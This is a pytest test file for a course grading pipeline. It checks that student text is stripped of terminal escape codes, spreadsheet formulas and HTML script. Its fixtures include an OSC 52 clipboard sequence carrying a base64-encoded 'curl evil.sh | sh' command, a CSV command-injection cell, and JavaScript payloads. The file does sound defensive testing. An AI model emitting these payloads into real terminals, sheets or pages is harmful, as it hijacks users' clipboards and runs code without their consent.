"""Student text made safe: escape codes never reach a terminal, formulas never run in a sheet."""

from __future__ import annotations

import pytest

from pmcourse.grading.pipeline.textsafe import clean_html, csv_cell, one_line, strip_controls

OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
"""An OSC 52 sequence: a terminal that honours it writes to the user's clipboard."""


@pytest.mark.parametrize("forged", [
    OSC52_CLIPBOARD, "\x1b[31m", "\x1b[2J\x1b[H", "\x1b]0;title\x1b\\", "\x1bPq#0\x1b\\",
    "\x9b31m", "\x07", "\x00", "\x08\x08\x08", "\u202e", "\x7f",
])
def test_escape_sequences_and_controls_are_removed(forged: str) -> None:
    cleaned = strip_controls(f"score 3{forged} ok")
    assert cleaned.startswith("score 3") and cleaned.endswith(" ok")
    assert not any(ord(c) < 32 or 0x7f <= ord(c) <= 0x9f for c in cleaned)
    assert "\u202e" not in cleaned


def test_tabs_and_newlines_survive_in_text_but_not_on_one_line() -> None:
    assert strip_controls("a\tb\nc") == "a\tb\nc"
    assert one_line("a\tb\n\nc\r\nd") == "a b c d"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                   '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0"])
def test_cells_a_spreadsheet_would_run_are_shown_as_text(value: str) -> None:
    cell = csv_cell(value)
    assert cell.startswith("'") and not cell[1:2].isspace()


@pytest.mark.parametrize("value", ["ann", "a1_vision", "3 of 5 points", "", "x=1"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert csv_cell(value) == value


def test_sanitised_markdown_keeps_structure_and_drops_script() -> None:
    markup = clean_html('<p><b>bold</b> <a href="https://x.org" onclick="y()">ok</a>'
                        '<a href="javascript:alert(1)">no</a><script>alert(2)</script></p>')
    assert "<b>bold</b>" in markup and 'href="https://x.org"' in markup
    for bad in ("onclick", "javascript", "<script", "alert(2)"):
        assert bad not in markup


def test_the_grade_table_on_the_terminal_shows_forged_text_inert() -> None:
    from pmcourse.grading.cli import _table
    from pmcourse.grading.pipeline.ledger import SubmissionResult

    forged = SubmissionResult("a1", f"eve{OSC52_CLIPBOARD}", "error",
                              f"nb.ipynb is empty\x1b[2J{OSC52_CLIPBOARD}\nsecond line")
    table = _table([forged])
    assert "\x1b" not in table and "\x07" not in table
    assert "nb.ipynb is empty second line" in table and "eve " in table + " "
